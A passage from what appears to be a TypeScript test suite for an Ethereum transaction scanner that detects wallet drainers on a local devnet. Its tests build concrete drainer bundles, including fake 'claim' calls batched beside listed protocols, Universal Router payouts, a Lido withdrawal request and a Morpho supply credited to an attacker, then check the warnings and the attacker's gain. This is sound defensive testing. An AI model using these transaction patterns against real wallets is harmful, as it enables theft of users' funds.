      args: [0n, [fx().weth.address, meme, meme2], buyer, DEADLINE],
    })
    const tx: TxRequest = { from: buyer, to: router, data, value: numberToHex(parseEther('1')) }
    const response = await scan(tx)
    const diffs = (
      response.simulationResults.aggregated.expectedStateChanges[buyer.toLowerCase() as Address] ?? []
    ).map((change) => change.humanReadableDiff)
    expect(diffs).toContain('Send 1 ETH')
    expect(diffs.some((diff) => / MEME2$/.test(diff))).toBe(true)
    expect(response.action).toBe('NONE')
    expect(response.warnings).toEqual([])
    await expectRealityMatches(rpcUrl, response, tx)
  })
  /**
   * An NFT drop minted through OpenSea's SeaDrop, as its mintPublic pays (ProjectOpenSea/seadrop, src/SeaDrop.sol):
   * the buyer pays SeaDrop, which sends the platform's fee to the fee recipient and the rest to the creator's payout
   * address (set in SeaDrop by the collection, named by no calldata), then has the collection mint to the buyer. The
   * drop's checks (times, allow lists, limits per wallet) are left out: they move nothing.
   */
  const seaDropSource = `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface INonFungibleSeaDropToken { function mintSeaDrop(address minter, uint256 quantity) external; }
contract SeaDrop {
    struct PublicDrop { uint80 mintPrice; uint16 feeBps; }
    mapping(address => PublicDrop) internal _publicDrops;
    mapping(address => address) internal _creatorPayoutAddresses;
    event SeaDropMint(address indexed nftContract, address indexed minter, address indexed feeRecipient, address payer, uint256 quantityMinted, uint256 unitMintPrice, uint256 feeBps, uint256 dropStageIndex);
    function updatePublicDrop(PublicDrop calldata publicDrop) external { _publicDrops[msg.sender] = publicDrop; }
    function updateCreatorPayoutAddress(address payoutAddress) external { _creatorPayoutAddresses[msg.sender] = payoutAddress; }
    function mintPublic(address nftContract, address feeRecipient, address minterIfNotPayer, uint256 quantity) external payable {
        PublicDrop memory publicDrop = _publicDrops[nftContract];
        require(msg.value == quantity * publicDrop.mintPrice, "IncorrectPayment");
        address minter = minterIfNotPayer != address(0) ? minterIfNotPayer : msg.sender;
        INonFungibleSeaDropToken(nftContract).mintSeaDrop(minter, quantity);
        uint256 feeAmount = (msg.value * publicDrop.feeBps) / 10_000;
        if (feeAmount > 0) { (bool fee,) = feeRecipient.call{value: feeAmount}(""); require(fee); }
        (bool paid,) = _creatorPayoutAddresses[nftContract].call{value: msg.value - feeAmount}("");
        require(paid);
        emit SeaDropMint(nftContract, minter, feeRecipient, msg.sender, quantity, publicDrop.mintPrice, publicDrop.feeBps, 0);
    }
}
contract DropCollection {
    string public constant name = "Genesis Drop";
    string public constant symbol = "DROP";
    mapping(uint256 => address) internal _owners;
    mapping(address => uint256) public balanceOf;
    uint256 public totalMinted;
    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    function supportsInterface(bytes4 id) external pure returns (bool) { return id == 0x80ac58cd || id == 0x01ffc9a7; }
    function tokenURI(uint256) external pure returns (string memory) { return "ipfs://drop"; }
    function ownerOf(uint256 id) external view returns (address owner) { owner = _owners[id]; require(owner != address(0)); }
    function setUpDrop(address seaDrop, uint80 mintPrice, uint16 feeBps, address payout) external {
        SeaDrop(seaDrop).updatePublicDrop(SeaDrop.PublicDrop(mintPrice, feeBps));
        SeaDrop(seaDrop).updateCreatorPayoutAddress(payout);
    }
    function mintSeaDrop(address minter, uint256 quantity) external {
        for (uint256 i = 0; i < quantity; i++) {
            uint256 id = ++totalMinted;
            _owners[id] = minter;
            emit Transfer(address(0), minter, id);
        }
        balanceOf[minter] += quantity;
    }
}`

  /** SeaDrop's code at `seaDrop` and a collection of its own selling through it at 0.04 ETH, 10 % to the fee recipient. */
  async function dropThrough(seaDrop: Address, collection: Address): Promise<void> {
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    await anvil.setCode({ address: seaDrop, bytecode: runtimeCode('SeaDrop.sol', seaDropSource, 'SeaDrop') })
    await anvil.setCode({ address: collection, bytecode: runtimeCode('SeaDrop.sol', seaDropSource, 'DropCollection') })
    const client = devnetClient(rpcUrl)
    const setUp = await client.writeContract({
      account: account(9),
      address: collection,
      abi: parseAbi(['function setUpDrop(address seaDrop, uint80 mintPrice, uint16 feeBps, address payout)']),
      functionName: 'setUpDrop',
      args: [seaDrop, parseEther('0.04'), 1000, CREATOR_PAYOUT],
      chain: null,
    })
    await waitForReceipt(client, setUp)
  }

  const mintPublic = (collection: Address) =>
    encodeFunctionData({
      abi: parseAbi([
        'function mintPublic(address nftContract, address feeRecipient, address minterIfNotPayer, uint256 quantity) payable',
      ]),
      functionName: 'mintPublic',
      args: [collection, OPENSEA_FEE_RECIPIENT, zeroAddress, 2n],
    })

  /** A scan with mainnet's lists (its known minters and protocols), not checked against the reference schema. */
  async function scanAsMainnet(request: Parameters<typeof scanTransactionsWithStats>[0]) {
    const { outcome } = await scanTransactionsWithStats(request, { rpcUrl, chainId: 1 })
    if (!outcome.ok) throw new Error(`scan failed: ${JSON.stringify(outcome.error)}`)
    return outcome.response
  }

  /** The minted-payback warning a drainer's claim draws. */
  function expectMintedPaybackWarning(response: ScanTransactionsResponse): void {
    expect(response.action).toBe('WARN')
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.message).toContain('minted for you in this transaction')
  }

  /** Sends `txs` one after another as a wallet sends a bundle; returns what the drainer's attacker gained. */
  async function attackerGainFrom(user: Address, txs: { to: Address; data: Hex; value: string }[]): Promise<bigint> {
    const client = devnetClient(rpcUrl)
    const attacker = getAddress(fx().drainer.attacker)
    const before = await client.getBalance({ address: attacker })
    for (const tx of txs) {
      const hash = await client.sendTransaction({
        account: user,
        to: tx.to,
        data: tx.data,
        value: BigInt(tx.value),
        chain: null,
      })
      await waitForReceipt(client, hash)
    }
    return (await client.getBalance({ address: attacker })) - before
  }

  it('minting 2 NFTs of a drop through SeaDrop, which pays the creator and OpenSea: NONE on mainnet, as executed', async () => {
    const collection: Address = '0x000000000000000000000000000000000000d401'
    await dropThrough(SEADROP, collection)
    const buyer = account(4)
    const tx: TxRequest = {
      from: buyer,
      to: SEADROP,
      data: mintPublic(collection),
      value: numberToHex(parseEther('0.08')),
    }
    // Not checked against the reference schema: it wants a counterparty on every NFT transfer, and a mint has none.
    const response = await scanAsMainnet(scanRequest(tx))
    expect(response.warnings).toEqual([])
    expect(response.action).toBe('NONE')
    const executed = await expectRealityMatches(rpcUrl, response, tx)
    expect(executed.get(`${CREATOR_PAYOUT.toLowerCase()}|native`)).toBe(parseEther('0.072'))
  })

  it('the same contract at an address no deployment book names, forwarding the ETH and minting: still WARN', async () => {
    const seaDrop: Address = '0x000000000000000000000000000000000000d500'
    const collection: Address = '0x000000000000000000000000000000000000d501'
    await dropThrough(seaDrop, collection)
    const buyer = account(4)
    const tx: TxRequest = {
      from: buyer,
      to: seaDrop,
      data: mintPublic(collection),
      value: numberToHex(parseEther('0.08')),
    }
    expectMintedPaybackWarning(await scanAsMainnet(scanRequest(tx)))
  })

  it('a drainer\'s "claim" sent beside a SeaDrop mint is no drop: the minted RWD still warns, and the attacker is paid', async () => {
    const collection: Address = '0x000000000000000000000000000000000000d402'
    await dropThrough(SEADROP, collection)
    const user = account(2)
    const mintTx = { from: user, to: SEADROP, data: mintPublic(collection), value: parseEther('0.08').toString() }
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const claimTx = { from: user, to: DRAINER, data: claim, value: parseEther('2').toString() }
    const request = { ...scanRequest({ from: user, to: SEADROP }), txObjects: [mintTx, claimTx] }
    expectMintedPaybackWarning(await scanAsMainnet(request))
    // Executed as a wallet sends the bundle: the attacker holds the claim's 2 ETH, the user 1,000,000 RWD.
    expect(await attackerGainFrom(user, [mintTx, claimTx])).toBe(parseEther('2'))
    const rwd = await devnetClient(rpcUrl).readContract({
      address: JUNK,
      abi: erc20Abi,
      functionName: 'balanceOf',
      args: [user],
    })
    expect(rwd).toBeGreaterThan(0n)
  })

  it("a drainer's claim sent beside a call to a listed protocol (Balancer's vault) still warns, and the attacker is paid", async () => {
    const user = account(3)
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const claimTx = { from: user, to: DRAINER, data: claim, value: parseEther('2').toString() }
    const vaultCall = { from: user, to: BALANCER_VAULT, data: '0x' as const, value: '0' }
    const request = { ...scanRequest({ from: user, to: DRAINER }), txObjects: [vaultCall, claimTx] }
    expectMintedPaybackWarning(await scanAsMainnet(request))
    expect(await attackerGainFrom(user, [vaultCall, claimTx])).toBe(parseEther('2'))
  })

  it('supplying 1 ETH to Aave through its native currency gateway, which pays WETH: aWETH minted, NONE on mainnet', async () => {
    // The gateway at its mainnet address pays the ETH into WETH, which no calldata names, and the aToken, unpriced and
    // not called, mints: all the user loses is paid to the listed gateway, so the mint is no payback, as executed.
    const user = account(7)
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    const source = gatewaySource(fx().weth.address)
    await anvil.setCode({ address: A_WETH, bytecode: runtimeCode('Gateway.sol', source, 'SuppliedToken') })
    await anvil.setCode({ address: AAVE_GATEWAY, bytecode: runtimeCode('Gateway.sol', source, 'NativeGateway') })
    const data = encodeFunctionData({
      abi: parseAbi(['function depositETH(address pool, address onBehalfOf, uint16 referralCode) payable']),
      functionName: 'depositETH',
      args: [zeroAddress, user, 0],
    })
    const tx: TxRequest = { from: user, to: AAVE_GATEWAY, data, value: numberToHex(parseEther('1')) }
    const response = await scanAsMainnet(scanRequest(tx))
    expect(response.warnings).toEqual([])
    expect(response.action).toBe('NONE')
    const executed = await expectRealityMatches(rpcUrl, response, tx)
    expect(executed.get(`${user.toLowerCase()}|${A_WETH.toLowerCase()}`)).toBe(parseEther('1'))
    expect(executed.get(`${fx().weth.address.toLowerCase()}|native`)).toBe(parseEther('1'))
  })

  it("stETH queued at Lido's withdrawal queue for the attacker, the request NFT minted to it: WARN naming it, as executed", async () => {
    // The listed queue keeps the stETH, and mints the request NFT, the claim on the ETH, to the owner the call names.
    // Requested for the attacker it was NONE ("Send 100 stETH", the NFT not the user's); for the user it stays NONE.
    const user = account(4)
    const attacker = getAddress(fx().drainer.attacker)
    const client = devnetClient(rpcUrl)
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    await anvil.setCode({ address: STETH, bytecode: runtimeCode('Lido.sol', lidoSource, 'StakedEther') })
    const queueCode = runtimeCode('Lido.sol', lidoSource, 'WithdrawalQueue')
    await anvil.setCode({ address: LIDO_WITHDRAWAL_QUEUE, bytecode: queueCode })
    const stethAbi = parseAbi([
      'function mint(address to, uint256 value)',
      'function approve(address spender, uint256 value) returns (bool)',
    ])
    const minted = await client.writeContract({
      account: account(9),
      address: STETH,
      abi: stethAbi,
      functionName: 'mint',
      args: [user, parseEther('100')],
      chain: null,
    })
    await waitForReceipt(client, minted)
    const approved = await client.writeContract({
      account: user,
      address: STETH,
      abi: stethAbi,
      functionName: 'approve',
      args: [LIDO_WITHDRAWAL_QUEUE, maxUint256],
      chain: null,
    })
    await waitForReceipt(client, approved)
    const queueAbi = parseAbi([
      'function requestWithdrawals(uint256[] amounts, address owner) returns (uint256[])',
      'function ownerOf(uint256 id) view returns (address)',
      'function lastRequestId() view returns (uint256)',
    ])
    const request = (owner: Address) => ({
      from: user,
      to: LIDO_WITHDRAWAL_QUEUE,
      data: encodeFunctionData({
        abi: queueAbi,
        functionName: 'requestWithdrawals',
        args: [[parseEther('100')], owner],
      }),
      value: '0',
    })
    const own = await scanAsMainnet({
      ...scanRequest({ from: user, to: LIDO_WITHDRAWAL_QUEUE }),
      txObjects: [request(user)],
    })
    expect(own.warnings).toEqual([])
    expect(own.action).toBe('NONE')
    const response = await scanAsMainnet({
      ...scanRequest({ from: user, to: LIDO_WITHDRAWAL_QUEUE }),
      txObjects: [request(attacker)],
    })
    expect(response.warnings.map((w) => [w.kind, w.severity])).toEqual([['TRADE_PROCEEDS_TO_OTHER_ADDRESS', 'WARNING']])
    expect(response.warnings[0]?.message).toContain(`pays all its 1 unstETH to ${shortAddress(attacker)}, not to you`)
    expect(response.action).toBe('WARN')
    // Executed: the user's 100 stETH sit in the queue, and the request, the claim on them, is the attacker's.
    await attackerGainFrom(user, [request(attacker)])
    const id = await client.readContract({
      address: LIDO_WITHDRAWAL_QUEUE,
      abi: queueAbi,
      functionName: 'lastRequestId',
    })
    const holder = await client.readContract({
      address: LIDO_WITHDRAWAL_QUEUE,
      abi: queueAbi,
      functionName: 'ownerOf',
      args: [id],
    })
    expect(holder).toBe(attacker)
    expect(await client.readContract({ address: STETH, abi: erc20Abi, functionName: 'balanceOf', args: [user] })).toBe(
      0n,
    )
  })

  it("a drainer's claim batched in one transaction beside a call to Balancer's vault still warns, and the attacker is paid", async () => {
    // The user's account delegates to a batch executor (EIP-7702), as smart accounts and wallets' batches run calls.
    const user = account(0)
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    await anvil.setCode({ address: BATCH_ACCOUNT, bytecode: runtimeCode('Batch.sol', batchSource, 'BatchAccount') })
    await anvil.setCode({ address: user, bytecode: `0xef0100${BATCH_ACCOUNT.slice(2)}` })
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const data = encodeFunctionData({
      abi: batchAbi,
      functionName: 'executeBatch',
      args: [
        [
          { target: BALANCER_VAULT, value: 0n, data: '0x' },
          { target: DRAINER, value: parseEther('2'), data: claim },
        ],
      ],
    })
    const batch = { from: user, to: user, data, value: '0' }
    const response = await scanAsMainnet({ ...scanRequest({ from: user, to: user }), txObjects: [batch] })
    expectMintedPaybackWarning(response)
    // The contract to doubt is the drainer the batch pays, not the user's own account nor the listed vault.
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.message).toMatch(new RegExp(`do not continue unless you trust ${shortAddress(DRAINER)}\\.$`))
    expect(await attackerGainFrom(user, [batch])).toBe(parseEther('2'))
  })

  it('an honest swap of 1 ETH for an unpriced token through the Universal Router, 0.25 % to a fee wallet: NONE, as executed', async () => {
    // The router at its listed mainnet address swaps into itself, pays the interface's fee out of the output to a
    // wallet and sweeps the rest to the user: what it passes on to a wallet is the output, not the ETH the user paid
    // it. Its own symbol: mainnet's list has a MEME, which this one would fake.
    const user = account(7)
    const maker = account(5)
    const client = devnetClient(rpcUrl)
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    const deployed = await deployUniversalRouter(fx(), account(9))
    await anvil.setCode({ address: UNIVERSAL_ROUTER, bytecode: (await client.getCode({ address: deployed })) as Hex })
    const { abi, bytecode } = fixtureArtifact('DevToken')
    const args = ['Preflight Fee Test', 'PFFEE', 18, [maker], [parseEther('1000000')]]
    const created = await client.deployContract({ account: maker, abi, bytecode, args, chain: null })
    const token = getAddress((await waitForReceipt(client, created)).contractAddress as Address)
    const approved = await client.writeContract({
      account: maker,
      address: token,
      abi: erc20Abi,
      functionName: 'approve',
      args: [fx().uniswapV2.router, maxUint256],
      chain: null,
    })
    await waitForReceipt(client, approved)
    const deposit = v2AddLiquidityEth(fx(), maker, token, parseEther('100000'), parseEther('10'))
    const added = await client.sendTransaction({
      account: maker,
      to: deposit.to,
      data: deposit.data,
      value: BigInt(deposit.value ?? 0),
      chain: null,
    })
    await waitForReceipt(client, added)
    const tx = universalRouterSwapEthWithFee(fx(), UNIVERSAL_ROUTER, user, parseEther('1'), token, FEE_WALLET, 25n)
    const response = await scanAsMainnet(scanRequest(tx))
    expect(response.warnings).toEqual([])
    expect(response.action).toBe('NONE')
    const executed = await expectRealityMatches(rpcUrl, response, tx)
    expect(executed.get(`${user.toLowerCase()}|${token.toLowerCase()}`)).toBeGreaterThan(0n)
    expect(executed.get(`${FEE_WALLET.toLowerCase()}|${token.toLowerCase()}`)).toBeGreaterThan(0n)
  })

  it('the same TRANSFER and claim sent as a request of two transactions: WARN, naming the drainer, and the attacker is paid', async () => {
    const user = account(2)
    const client = devnetClient(rpcUrl)
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    const deployed = await deployUniversalRouter(fx(), account(9))
    await anvil.setCode({ address: UNIVERSAL_ROUTER, bytecode: (await client.getCode({ address: deployed })) as Hex })
    const attacker = getAddress(fx().drainer.attacker)
    const pay = universalRouterPayEth('TRANSFER', attacker, parseEther('2'))
    const payTx = { from: user, to: UNIVERSAL_ROUTER, data: pay, value: parseEther('2').toString() }
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const claimTx = { from: user, to: DRAINER, data: claim, value: '0' }
    const response = await scanAsMainnet({
      ...scanRequest({ from: user, to: UNIVERSAL_ROUTER }),
      txObjects: [payTx, claimTx],
    })
    expectMintedPaybackWarning(response)
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.message).toMatch(new RegExp(`do not continue unless you trust ${shortAddress(DRAINER)}\\.$`))
    expect(await attackerGainFrom(user, [payTx, claimTx])).toBe(parseEther('2'))
  })

  it.each(['TRANSFER', 'SWEEP', 'PAY_PORTION'] as const)(
    "2 ETH paid to Uniswap's Universal Router, which %ss it to the attacker, batched with a drainer's claim: WARN",
    async (command) => {
      // The router at its listed mainnet address: the user pays a known contract, which passes every wei on to the
      // attacker's wallet as the calldata tells it; the claim mints the 1,000,000 RWD that look like the router's payback.
      const user = account(6)
      const client = devnetClient(rpcUrl)
      const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
      const deployed = await deployUniversalRouter(fx(), account(9))
      await anvil.setCode({ address: UNIVERSAL_ROUTER, bytecode: (await client.getCode({ address: deployed })) as Hex })
      await anvil.setCode({ address: BATCH_ACCOUNT, bytecode: runtimeCode('Batch.sol', batchSource, 'BatchAccount') })
      await anvil.setCode({ address: user, bytecode: `0xef0100${BATCH_ACCOUNT.slice(2)}` })
      const attacker = getAddress(fx().drainer.attacker)
      const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
      const pay = universalRouterPayEth(command, attacker, parseEther('2'))
      const data = encodeFunctionData({
        abi: batchAbi,
        functionName: 'executeBatch',
        args: [
          [
            { target: UNIVERSAL_ROUTER, value: parseEther('2'), data: pay },
            { target: DRAINER, value: 0n, data: claim },
          ],
        ],
      })
      const batch = { from: user, to: user, data, value: '0' }
      const response = await scanAsMainnet({ ...scanRequest({ from: user, to: user }), txObjects: [batch] })
      expectMintedPaybackWarning(response)
      // The listed router is paid, but the contract to doubt is the unlisted one the batch calls: the drainer.
      const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
      expect(warning?.message).toMatch(new RegExp(`do not continue unless you trust ${shortAddress(DRAINER)}\\.$`))
      // Executed: the attacker has the 2 ETH the scan saw paid to the router, the user 1,000,000 more RWD.
      const rwd = () => client.readContract({ address: JUNK, abi: erc20Abi, functionName: 'balanceOf', args: [user] })
      const before = await rwd()
      expect(await attackerGainFrom(user, [batch])).toBe(parseEther('2'))
      expect((await rwd()) - before).toBe(parseEther('1000000'))
    },
  )
  it("1,000 LUSD a bundle supplies to Morpho Blue for the attacker, beside a drainer's claim: WARN, and the attacker withdraws it", async () => {
    // The user pays bundler3's listed adapter, which supplies a market the drainer made (its own collateral and oracle)
    // on the attacker's behalf: the listed market keeps the LUSD, whose they are lives in its storage, and the attacker
    // withdraws them at will. A zero-value call to a listed contract rides along, as drainers add one to look known.
    const user = account(1)
    const attacker = getAddress(fx().drainer.attacker)
    const client = devnetClient(rpcUrl)
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    const contracts: [Address, string][] = [
      [MORPHO_BLUE, 'MorphoBlue'],
      [BUNDLER3, 'Bundler3'],
      [GENERAL_ADAPTER, 'GeneralAdapter1'],
    ]
    for (const [address, name] of contracts) {
      await anvil.setCode({ address, bytecode: runtimeCode('Morpho.sol', morphoSource, name) })
    }
    const { abi, bytecode } = fixtureArtifact('DevToken')
    const args = ['Lent USD', 'LUSD', 18, [user], [parseEther('1000')]]
    const created = await client.deployContract({ account: user, abi, bytecode, args, chain: null })
    const lusd = getAddress((await waitForReceipt(client, created)).contractAddress as Address)
    const approved = await client.writeContract({
      account: user,
      address: lusd,
      abi: erc20Abi,
      functionName: 'approve',
      args: [GENERAL_ADAPTER, maxUint256],
      chain: null,
    })
    await waitForReceipt(client, approved)
    const market = {
      loanToken: lusd,
      collateralToken: JUNK,
      oracle: DRAINER,
      irm: zeroAddress,
      lltv: parseEther('0.945'),
    }
    const step = (data: Hex) => ({ to: GENERAL_ADAPTER, data, value: 0n, skipRevert: false, callbackHash: zeroHash })
    const pull = encodeFunctionData({
      abi: morphoAbi,
      functionName: 'erc20TransferFrom',
      args: [lusd, GENERAL_ADAPTER, parseEther('1000')],
    })
    const supply = encodeFunctionData({
      abi: morphoAbi,
      functionName: 'morphoSupply',
      args: [market, parseEther('1000'), 0n, maxUint256, attacker, '0x'],
    })
    const bundle = encodeFunctionData({ abi: morphoAbi, functionName: 'multicall', args: [[step(pull), step(supply)]] })
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const txObjects = [
      { from: user, to: BUNDLER3, data: bundle, value: '0' },
      { from: user, to: BALANCER_VAULT, data: '0x' as const, value: '0' },
      { from: user, to: DRAINER, data: claim, value: '0' },
    ]
    const response = await scanAsMainnet({ ...scanRequest({ from: user, to: BUNDLER3 }), txObjects })
    const diffs = (response.simulationResults.aggregated.expectedStateChanges[user.toLowerCase() as Address] ?? []).map(
      (change) => change.humanReadableDiff,
    )
    expect(diffs).toEqual(expect.arrayContaining(['Send 1,000 LUSD', 'Receive 1,000,000 RWD']))
    expectMintedPaybackWarning(response)
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.message).toContain(`would end up with ${shortAddress(MORPHO_BLUE)}`)
    expect(warning?.message).toContain(shortAddress(DRAINER))
    // Executed: the user's 1,000 LUSD sit in the market, credited to the attacker, who takes them out.
    await attackerGainFrom(user, txObjects)
    const withdrawn = await client.writeContract({
      account: attacker,
      address: MORPHO_BLUE,
      abi: morphoAbi,
      functionName: 'withdraw',
      args: [market, parseEther('1000'), 0n, attacker, attacker],
      chain: null,
    })
    await waitForReceipt(client, withdrawn)
    const balanceOf = (holder: Address) =>
      client.readContract({ address: lusd, abi: erc20Abi, functionName: 'balanceOf', args: [holder] })
    expect(await balanceOf(attacker)).toBe(parseEther('1000'))
    expect(await balanceOf(user)).toBe(0n)
  })
})
